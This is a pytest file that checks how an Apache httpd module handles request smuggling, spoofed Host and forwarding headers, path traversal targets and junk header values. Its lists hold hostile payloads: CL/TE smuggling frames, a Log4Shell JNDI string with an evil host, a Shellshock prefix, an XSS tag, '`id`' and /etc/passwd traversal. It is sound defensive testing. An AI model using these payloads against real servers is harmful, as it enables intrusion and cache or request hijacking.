# SPDX-License-Identifier: Apache-2.0
"""Messages that are made to be read in two ways, and hosts that lie.

The judge is httpd itself: what it makes of a message for a file of its own,
it makes of the same message for us.
"""

import re
import socket

import pytest

from harness import BASE, ONE, PLAIN, Httpd, finish, strict_json
from samples import BROWSER

FILE = "/file.txt"
OURS = BASE + "/cells.json"
EXPECTED = ["AH10244", "AH01630"]
CLOSE = b"Connection: close\r\n"
HOST = b"Host: h\r\n"


@pytest.fixture(scope="module")
def server(mpm):
    server = Httpd('<Directory "{root}/htdocs">\nRequire all granted\n'
                   "</Directory>\n" + ONE, mpm=mpm,
                   files={"htdocs" + FILE: "a file\n"}, expected=EXPECTED)
    try:
        yield server.start()
    finally:
        finish([server])


def exchange(server: Httpd, data: bytes) -> bytes:
    """All that comes back; a server may well hang up on such a client."""
    with socket.create_connection(("127.0.0.1", server.port), 20) as link:
        received = []
        try:
            link.sendall(data)
            link.shutdown(socket.SHUT_WR)
            while piece := link.recv(65536):
                received.append(piece)
        except ConnectionError:
            pass
        return b"".join(received)


def statuses(data: bytes) -> list[int]:
    """The status of every answer; a body of ours holds no such line."""
    return [int(status) for status in
            re.findall(rb"^HTTP/1\.1 (\d{3}) ", data, re.M)]


INNER = b"GET /smuggled HTTP/1.1\r\nHost: h\r\n\r\n"
# Head lines that say twice, or strangely, where the message ends; the body.
FRAMES = {
    "length and chunks": (b"Content-Length: 4\r\nTransfer-Encoding: chunked"
                          b"\r\n", b"0\r\n\r\n" + INNER),
    "chunks and length": (b"Transfer-Encoding: chunked\r\nContent-Length: 4"
                          b"\r\n", b"0\r\n\r\n" + INNER),
    "length within": (b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n"
                      % len(INNER), INNER),
    "two lengths": (b"Content-Length: 4\r\nContent-Length: 5\r\n",
                    b"abcd" + INNER),
    "a list of lengths": (b"Content-Length: 4, 4\r\n", b"abcd" + INNER),
    "length with a plus": (b"Content-Length: +4\r\n", b"abcd" + INNER),
    "length below nothing": (b"Content-Length: -4\r\n", INNER),
    "length in hex": (b"Content-Length: 0x4\r\n", b"abcd" + INNER),
    "length past all": (b"Content-Length: 9223372036854775808\r\n", INNER),
    "length too large by far": (b"Content-Length: " + b"9" * 40 + b"\r\n",
                                INNER),
    "two codings": (b"Transfer-Encoding: chunked\r\n"
                    b"Transfer-Encoding: identity\r\n", b"0\r\n\r\n" + INNER),
    "chunked is not last": (b"Transfer-Encoding: chunked, gzip\r\n",
                            b"0\r\n\r\n" + INNER),
    "an unknown coding": (b"Transfer-Encoding: xchunked\r\n",
                          b"0\r\n\r\n" + INNER),
    "a control before it": (b"Transfer-Encoding: \x0bchunked\r\n",
                            b"0\r\n\r\n" + INNER),
    "space before the colon": (b"Transfer-Encoding : chunked\r\n",
                               b"0\r\n\r\n" + INNER),
    "folded": (b"Transfer-Encoding:\r\n chunked\r\n", b"0\r\n\r\n" + INNER),
    "folded into another": (b"X: y\r\n Transfer-Encoding: chunked\r\n",
                            INNER),
    "a chunk too long": (b"Transfer-Encoding: chunked\r\n",
                         b"ffffffffffffffffff\r\n" + INNER),
    "a chunk of no size": (b"Transfer-Encoding: chunked\r\n",
                           b"-1\r\nx\r\n0\r\n\r\n" + INNER),
    "a chunk with words": (b"Transfer-Encoding: chunked\r\n",
                           b"3;x=\"\xff\n\"\r\nabc\r\n0\r\n\r\n" + INNER),
    "lines in trailers": (b"Transfer-Encoding: chunked\r\n",
                          b"0\r\nContent-Length: 4\r\nHost: evil\r\n\r\n"
                          + INNER),
    "bare line feeds": (b"X: y\nContent-Length: 0\n", INNER),
    "a bare return": (b"X: y\rContent-Length: 4\r\n", INNER),
    "a NUL": (b"X: a\0b\r\n", INNER),
    "a line without a name": (b": x\r\n", INNER),
    "a line without a colon": (b"Content-Length\r\n", INNER),
    "space before a name": (b" Content-Length: 4\r\n", INNER),
    "two hosts": (b"Host: evil\r\n", INNER),
    "upgrade and a body": (b"Connection: Upgrade, HTTP2-Settings\r\n"
                           b"Upgrade: h2c\r\nHTTP2-Settings: AAAA\r\n"
                           b"Content-Length: 4\r\n", b"abcd" + INNER),
    "names of hops": (b"Connection: Host, Content-Length, Accept\r\n"
                      b"Content-Length: 4\r\n", b"abcd" + INNER),
}


@pytest.mark.every_mpm
@pytest.mark.parametrize("method", [b"GET", b"OPTIONS"])
def test_a_message_ends_where_httpd_says(server, method):
    for name, (lines, body) in FRAMES.items():
        theirs, ours = (
            exchange(server, method + b" " + path.encode() + b" HTTP/1.1\r\n"
                     + HOST + lines + b"\r\n" + body)
            for path in (FILE, OURS))
        assert statuses(ours) == statuses(theirs), name
        assert statuses(ours)[0] in (200, 400, 413, 501), name
        assert statuses(ours)[1:] in ([], [404], [400]), name
    # Where two answers are right, both came; or all of this shows nothing.
    lines, body = FRAMES["folded"]
    assert statuses(exchange(
        server, b"GET " + OURS.encode() + b" HTTP/1.1\r\n" + HOST + lines
        + b"\r\n" + body)) == [200, 404]


@pytest.mark.every_mpm
def test_a_refused_body_is_read_to_its_end_or_the_way_is_closed(server):
    for name, (lines, body) in FRAMES.items():
        data = exchange(server, b"POST " + OURS.encode() + b" HTTP/1.1\r\n"
                        + HOST + lines + b"\r\n" + body)
        found = statuses(data)
        assert found[0] in (400, 405, 413, 501), (name, found)
        assert found[1:] in ([], [404], [400]), (name, found)
        assert b"On-premises" not in data, name


# A target that is no path, or one with more in it; the status of it.
TARGETS = [
    ("http://h{base}/cells.json", 200), ("HTTP://h{base}/cells.json", 200),
    ("http://h:80{base}/cells.json", 200), ("https://h{base}/cells.json", 200),
    ("http://user@h{base}/cells.json", 400), ("ftp://h{base}/x", 400),
    ("//evil{base}/cells.json", 404), ("http://h", 404),
    ("{base}/cells.json#x", 400), ("*", 400), ("h:80", 400), ("", 400),
    ("{base}/cells.json\t", 400), ("{base}/cells.json\x01", 400),
    ("{base}/a b", 400), ("{base}/\x7f", 400), ("{base}/cells.json\0", 400),
    ("{base}/../etc/passwd", 404), ("/..{base}/cells.json", 400),
    ("{base}/%2e%2e/%2e%2e/etc/passwd", 400), ("{base}/..%2fx", 404),
    ("{base}/.%00/cells.json", 404), ("{base}\\cells.json", 404),
    ("{base}/cells.json;jsessionid=1", 404), ("{base};/cells.json", 404),
    ("{base}/azure-cloud/%2e/cells.json", 200),
    ("{base}/x/../cells.json", 200), ("/x/..{base}/cells.json", 200),
    ("{base}//cells.json", 200), ("/%72esponsibility/cells.json", 200),
    ("{base}/%63ells.json", 200), ("{base}/cells.json%20", 404),
    ("{base}/cells%252ejson", 404), ("{base}/CELLS.JSON", 404),
    ("{base}/%e2%80%ae", 404), ("{base}/%c0%ae%c0%ae/x", 404),
    ("{base}/%ff%fe", 404), ("{base}/%u0061", 400),
]


@pytest.mark.every_mpm
def test_targets(server):
    page = server.get(OURS).body
    for target, status in TARGETS:
        data = exchange(server, b"GET " + target.format(base=BASE).encode()
                        + b" HTTP/1.1\r\n" + HOST + CLOSE + b"\r\n")
        assert statuses(data) == [status], (target, data[:200])
        assert (data.endswith(page)) == (status == 200), target


def test_a_target_of_another_site_than_the_host_line(httpd):
    """RFC 9112, 3.2.2: the target wins, for us as for httpd."""
    body = ("<VirtualHost 127.0.0.1:{port}>\nServerName one\n" + PLAIN
            + "</VirtualHost>\n<VirtualHost 127.0.0.1:{port}>\n"
            "ServerName two\n</VirtualHost>\n")
    server = httpd(body)
    for target, host, status in (("http://one", b"two", 200),
                                 ("http://two", b"one", 404)):
        data = exchange(server, f"GET {target}{OURS} HTTP/1.1\r\nHost: "
                        .encode() + host + b"\r\n" + CLOSE + b"\r\n")
        assert statuses(data) == [status]


LIES = [b"evil.example", b"evil.example:81", b"EVIL.example.",
        b"127.0.0.1", b"[::1]", b"[::1]:80", b"localhost:65535",
        b"evil_name", b"xn--a"]
NO_HOSTS = [b"e vil", b"0", b"a@evil", b"evil/x", b"", b"h:99999", b"h:0x1",
            b"h:", b"evil?x", b"evil#x", b"<i>", b"\"", b"a\tb", b"a,b",
            b"[::1", b"\xff", b"..", b"evil%00", b"h:80:80"]
FORWARDED = (b"X-Forwarded-Host: evil.example\r\n"
             b"X-Forwarded-Proto: evil\r\nX-Forwarded-For: 127.0.0.1\r\n"
             b"X-Forwarded-Port: 666\r\nX-Forwarded-Prefix: /evil\r\n"
             b"Forwarded: host=evil.example;proto=evil\r\n"
             b"X-Original-URL: /evil\r\nX-Rewrite-URL: /evil\r\n"
             b"X-HTTP-Method-Override: DELETE\r\nX-Host: evil.example\r\n")
EVERYTHING = ["/", "/index.json", "/azure-cloud", "/azure-cloud.svg",
              "/azure-cloud.json", "/cells.csv", "/cells.ndjson", "/health",
              "/metrics", "/openapi.json", "/schemas/matrix.json",
              "/api-catalog", "/azure-cloud/areas", "/azure-cloud/",
              "/azure-cloud/compare", "/nope", "/nope.json", "/error",
              "/cells?party=nobody", "/azure-cloud?q=data&party=customer"]


@pytest.mark.every_mpm
def test_a_host_is_said_nowhere_but_in_the_redirect_of_the_base(server):
    """Bodies hold nothing of it, and no redirect below the base does."""
    for path in EVERYTHING:
        data = [exchange(server, f"GET {BASE}{path} HTTP/1.1\r\nHost: ".encode()
                         + host + b"\r\n" + more + CLOSE + b"\r\n")
                for host, more in ((b"h", b""), (LIES[0], FORWARDED))]
        assert b"evil" not in data[1].lower(), path
        if path not in ("/health", "/metrics"):  # with a time in them
            assert data[0].partition(b"\r\n\r\n")[2] == \
                data[1].partition(b"\r\n\r\n")[2], path
    for host in LIES:
        data = exchange(server, f"GET {BASE} HTTP/1.1\r\nHost: ".encode()
                        + host + b"\r\n" + FORWARDED + CLOSE + b"\r\n")
        assert statuses(data) == [301], host
        location = re.search(rb"^Location: (.*)\r$", data, re.M)[1]
        assert re.fullmatch(rb"(http://%s(:\d+)?/)?responsibility/" % re.escape(
            host.partition(b":8")[0].partition(b":6")[0].lower().rstrip(b".")),
            location.lower().replace(b"./", b"/")), (host, location)


def test_a_host_that_is_none_is_refused(server):
    for host in NO_HOSTS:
        data = exchange(server, f"GET {BASE} HTTP/1.1\r\nHost: ".encode()
                        + host + b"\r\n" + CLOSE + b"\r\n")
        assert statuses(data) in ([400], [301]), host
        if statuses(data) == [301]:
            location = re.search(rb"^Location: (.*)\r$", data, re.M)[1]
            assert location == b"http://127.0.0.1:%d/responsibility/" \
                % server.port or host.rstrip(b":") in location, host


def test_the_servers_own_name_where_the_administrator_wants_it(httpd):
    server = httpd("UseCanonicalName On\n" + ONE)
    data = exchange(server, f"GET {BASE} HTTP/1.1\r\nHost: evil.example\r\n"
                    "X-Forwarded-Host: proxy.example\r\n"
                    .encode() + CLOSE + b"\r\n")
    assert b"evil" not in data
    assert f"Location: http://127.0.0.1:{server.port}{BASE}/\r\n".encode() \
        in data or f"Location: http://127.0.0.1{BASE}/\r\n".encode() in data


NAMES = ["Accept", "Accept-Encoding", "Accept-Language", "If-None-Match",
         "If-Match", "If-Range", "Range", "Origin", "Cookie", "Referer",
         "Authorization", "Access-Control-Request-Headers",
         "Access-Control-Request-Method", "If-Modified-Since", "User-Agent",
         "TE", "Upgrade", "Via", "X-Any"]
# What is no header's, in all of them: only bytes that httpd lets through.
VALUES = [b"\xff\xfe\x80", b"\x09\x09", b"\"" * 999, b"\\" * 999, b"%0d%0a",
          b"=" * 999, b"*" * 999, b"," * 4000, b";" * 4000, b"(" * 999,
          b"${jndi:ldap://evil/x}", b"() { :;}; x", b"<script>alert(1)</script>",
          b"%n%s%x" * 99, b"0" * 8000, b"-" * 8000, b"\"\\", b"'", b"`id`",
          b"bytes=" + b"9" * 8000, b"q=" * 2000, b"a;q=" + b"9" * 4000]


def test_values_of_no_sense_in_any_header(server):
    wanted = server.get(BASE + "/azure-cloud/cells.json").body
    for name in NAMES:
        for value in VALUES:
            data = exchange(server, f"GET {BASE}/azure-cloud/cells.json "
                            f"HTTP/1.1\r\nHost: h\r\n{name}: ".encode() + value
                            + b"\r\n" + CLOSE + b"\r\n")
            found = statuses(data)
            assert found in ([200], [206], [304], [400], [412], [416]), (
                name, value[:40], found)
            if found == [200] and b"Content-Encoding" not in data:
                assert data.endswith(wanted), (name, value[:40])
            head = data.partition(b"\r\n\r\n")[0]
            if found == [200]:
                for piece in (b"evil", b"script", b":;}", b"\xff", b"id`"):
                    assert piece not in head, (name, value[:40])


@pytest.mark.every_mpm
def test_hundreds_of_parameters(server):
    """A line is at most 8190 bytes: LimitRequestLine. Within it a query has
    at most 256 values, and everything unknown is passed over."""
    path = BASE + "/azure-cloud/cells.json"
    wanted = server.get(path + "?party=customer").body
    whole = server.get(path).body
    for query, status, body in (
            ("&".join(["party=customer"] * 250), 200, wanted),
            ("&".join(["party=customer"] * 257), 400, None),
            ("party=" + ",".join(["customer"] * 256), 200, wanted),
            ("party=" + ",".join(["customer"] * 257), 400, None),
            ("&".join(f"p{i}=x" for i in range(900)), 200, whole),
            ("&" * 8000, 200, whole), ("=" * 8000, 200, whole),
            ("?" * 8000, 200, whole), ("&=" * 4000, 200, whole),
            (";" * 8000, 200, whole), ("," * 8000, 200, whole),
            ("party=" + "," * 7900 + "customer", 200, wanted),
            ("&".join(["q=customer"] * 700), 200, None),
            ("&".join(["format=json"] * 600), 200, whole),
            ("&".join(["bom=0"] * 1000), 200, whole),
            ("q=" + "a" * 8000, 200, b"[]\n"),
            ("q=" + "%F0%9F%94%92" * 64, 200, whole),
            ("party=" + "x" * 8000, 400, None),
            ("%70arty=customer&%" * 1, 200, wanted),
            ("party=%", 400, None), ("party=%00", 400, None),
            ("party=customer%00", 400, None), ("q=%0d%0aX-Evil:1", 400, None)):
        answer = server.target(f"{path}?{query}".encode())
        assert answer.status == status, (query[:60], answer.status)
        assert body is None or answer.body == body, query[:60]
        assert answer["X-Evil"] is None
        assert len(answer.body) < len(whole) + 20_000, query[:60]
        if status == 400:
            assert strict_json(answer.body)["parameter"] in ("party", "q")


def test_a_line_that_is_too_long_is_httpds_to_refuse(server):
    for target, status in ((BASE + "/x" * 4097, 414),
                           (BASE + "?q=" + "x" * 8200, 414)):
        data = exchange(server, f"GET {target} HTTP/1.1\r\nHost: h\r\n"
                        .encode() + CLOSE + b"\r\n")
        assert statuses(data) == [status]
    many = b"".join(b"X-%d: y\r\n" % i for i in range(101))
    data = exchange(server, f"GET {OURS} HTTP/1.1\r\nHost: h\r\n".encode()
                    + many + CLOSE + b"\r\n")
    assert statuses(data) == [400]


@pytest.mark.parametrize("path", ["/azure-cloud.html", "/azure-cloud/cells",
                                  "/cells?q=data", "/nope"])
@pytest.mark.parametrize("slashes", ["/", "/./", "/x/.."])
def test_a_deep_path_makes_no_long_links(server, path, slashes):
    """httpd takes slashes together, a client does not: each link has to climb
    out of all of them."""
    plain = server.get(BASE + path, accept=BROWSER)
    deep = BASE + slashes * (7900 // len(slashes)) + path
    answer = server.get(deep, accept=BROWSER)
    assert answer.status == plain.status
    assert len(answer["Link"] or "") < 2_000
    assert len(answer.body) < 2 * len(plain.body) + 2_000
    if answer.media == "text/html":
        for a in answer.html().iter("a"):
            href = a.get("href")
            assert href.startswith((BASE + "/", "#", "http", "?")), href
            if href.startswith(BASE) and "?" not in href:
                assert server.get(href.split("#")[0]).status == 200


@pytest.mark.parametrize("count", [20, 62])
def test_links_of_a_path_that_is_less_deep_are_relative(server, count):
    answer = server.get(BASE + "/" * count + "azure-cloud.html")
    links = [a.get("href") for a in answer.html().iter("a")]
    assert not [link for link in links if link.startswith(BASE)]
    assert [link for link in links if link.startswith("../" * (count - 1))]
